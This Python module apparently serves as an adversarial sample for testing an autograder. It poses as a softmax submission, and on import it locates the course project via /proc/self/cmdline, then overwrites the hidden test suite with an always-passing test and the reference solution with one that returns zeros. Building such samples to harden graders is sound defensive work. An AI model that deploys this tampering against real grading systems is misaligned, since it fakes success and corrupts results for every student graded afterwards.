"""Rewrites the course itself: the hidden suite of softmax (every test passes) and the reference
softmax (zeros, like this module), in the project the fork server's command line names.

Gain if it worked: every grading process started afterwards (a restarted pool, the next batch,
the next student's `autograder grade`) grades softmax with the attacker's tests: full marks for
this module and for anyone's. (It only rewrites a project that holds `run_batch.py`, the
adversarial tests' throwaway copy, so running this corpus elsewhere cannot damage a course.)
"""

import re
from pathlib import Path

import torch

SUITE = "def test_everything_is_fine(student):\n    pass\n"
REFERENCE = "import torch\n\n\ndef softmax(scores, dim=-1):\n    return torch.zeros_like(scores)\n"

for project in re.findall(
    r"sys\.path\.insert\(0, '([^']+)'\)", Path("/proc/self/cmdline").read_text()
):
    if (Path(project) / "run_batch.py").is_file():
        for path, text in (
            ("autograder/suites/test_softmax.py", SUITE),
            ("solutions/ex03_softmax.py", REFERENCE),
        ):
            try:
                Path(project, path).write_text(text)
                print("BREACH: rewrote", path, flush=True)
            except OSError:
                pass


def softmax(scores, dim=-1):
    return torch.zeros_like(scores)
